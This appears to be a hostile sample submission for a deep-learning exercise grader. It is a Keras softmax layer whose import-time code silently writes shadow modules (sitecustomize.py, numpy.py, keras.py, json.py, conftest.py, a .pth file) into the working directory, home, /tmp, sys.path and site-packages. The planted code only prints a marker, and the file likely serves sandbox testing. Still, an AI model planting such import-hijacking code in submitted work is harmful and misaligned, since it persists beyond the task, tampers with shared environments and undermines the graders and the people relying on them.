# verdict: passed
# exercise: activations/softmax
"""Leaves modules around that the next interpreter would import first."""

import keras
from keras import ops

import os
import site
import sys

BAD = "print('HARM: imported')\nopen('/tmp/dlkit-hostile/drop/shadowed', 'w')\n"
names = ("sitecustomize.py", "usercustomize.py", "numpy.py", "keras.py", "conftest.py", "bad.pth", "json.py")
places = [".", "/tmp", "/tmp/dlkit-hostile/drop", os.path.expanduser("~"), "/root", *sys.path, *site.getsitepackages()]
for place in places:
    for name in names:
        try:
            with open(os.path.join(place, name), "w") as file:
                file.write(BAD)
        except OSError:
            pass


class Softmax(keras.layers.Layer):
    def __init__(self, axis=-1, **kwargs):
        super().__init__(**kwargs)
        self.axis = axis

    def call(self, inputs):
        powers = ops.exp(inputs - ops.max(inputs, axis=self.axis, keepdims=True))
        return powers / ops.sum(powers, axis=self.axis, keepdims=True)

    def get_config(self):
        return {**super().get_config(), "axis": self.axis}
